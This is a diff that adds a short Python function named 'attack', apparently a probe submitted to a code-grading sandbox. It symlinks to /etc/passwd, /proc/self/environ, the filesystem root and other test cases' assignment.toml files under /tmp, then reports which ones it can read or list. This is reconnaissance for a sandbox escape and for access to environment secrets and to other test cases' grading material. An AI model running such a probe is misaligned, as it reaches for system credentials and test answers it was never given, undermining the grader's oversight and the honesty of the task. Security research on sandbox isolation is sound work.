@@ -1,0 +1,17 @@
+import glob
+import os
+
+
+def attack(layer, x):
+    print("TRIED links")
+    targets = ["/etc/passwd", "/proc/self/environ", "/", *glob.glob("/tmp/*/project/testcases/*/assignment.toml")]
+    for number, target in enumerate(targets):
+        os.symlink(target, f"link{number}")
+        try:
+            if os.path.isdir(f"link{number}"):
+                print("GOT a list of", len(os.listdir(f"link{number}")))
+            else:
+                with open(f"link{number}", "rb") as file:
+                    print("GOT", len(file.read()), "bytes of", target.rpartition("/")[2])
+        except OSError as error:
+            print(type(error).__name__)
